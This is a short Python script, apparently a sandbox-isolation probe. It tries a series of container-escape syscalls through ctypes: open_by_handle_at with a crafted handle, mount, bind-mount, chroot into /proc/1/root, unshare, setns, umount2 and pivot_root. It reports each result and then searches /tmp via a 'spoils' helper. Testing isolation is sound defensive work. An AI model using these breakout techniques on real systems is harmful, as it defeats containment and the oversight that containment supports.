import ctypes
import os

import spoils

libc = ctypes.CDLL(None, use_errno=True)


def attempt(what, result):
    print(what, "done" if result >= 0 else os.strerror(ctypes.get_errno()))


if __name__ == "__main__" and spoils.ISOLATED:
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 16)
    attempt("open by handle", libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, 0))
    attempt("mount", libc.mount(b"proc", b"/tmp", b"proc", 0, None))
    attempt("bind", libc.mount(b"/", b"/tmp", None, 4096, None))
    attempt("chroot", libc.chroot(b"/proc/1/root"))
    attempt("unshare", libc.unshare(0x10000000))
    attempt("setns", libc.setns(os.open("/proc/self/ns/mnt", os.O_RDONLY), 0))
    attempt("umount", libc.umount2(b"/work", 2))
    attempt("pivot", libc.pivot_root(b"/tmp", b"/tmp"))
    spoils.search("/tmp")
